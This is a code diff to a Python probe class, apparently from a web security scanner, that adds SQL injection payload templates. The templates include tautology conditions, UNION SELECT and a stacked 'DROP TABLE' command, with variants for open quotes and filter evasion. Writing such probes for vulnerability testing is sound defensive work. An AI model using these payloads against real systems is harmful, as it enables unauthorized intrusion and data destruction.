@@ -54,8 +54,9 @@ class Statement(Probe):
     def attacks(self, sighting: Sighting, canaries: Canaries, scene: Scene) -> Iterator[Attack]:
         """Close the literal that is open, else add a condition; the mark is a name or a literal of its own."""
         quote = quote_context(sighting.before)
-        bare = ["1 OR {n}={n}", "1 UNION SELECT {m}", "1;DROP TABLE {m}--", "x) OR {n}={n}--", "1/**/OR/**/{n}={n}"]
-        closed = ["xQ OR Q{m}Q=Q{m}", "xQ/**/OR/**/{n}={n}--", "xQ) OR {n}={n}--", "\\Q OR {n}={n}--"]
+        bare = ["1 OR {n}={n}", "1 UNION SELECT {m}", "1;DROP TABLE {m}--", "x) OR {n}={n}--", "1/**/OR/**/{n}={n}",
+                "(1)OR({n})={n}"]  # fmt: skip
+        closed = ["xQ OR Q{m}Q=Q{m}", "xQ/**/OR/**/{n}={n}--", "xQORQ{m}Q=Q{m}", "xQ) OR {n}={n}--", "\\Q OR {n}={n}--"]
         shapes = [shape.replace("Q", quote) for shape in closed] if quote else bare
         others = bare[:1] if quote else ["x' OR '{m}'='{m}", 'x" OR "{m}"="{m}']
         for shape in [*shapes, *others]:
